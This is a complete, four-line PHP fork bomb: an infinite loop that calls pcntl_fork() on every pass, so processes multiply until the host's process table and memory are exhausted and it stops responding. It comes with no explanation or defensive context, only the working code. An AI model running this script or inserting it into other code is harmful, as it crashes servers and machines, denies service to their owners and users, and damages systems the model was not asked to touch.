<?php
while (true) {
    pcntl_fork();
}
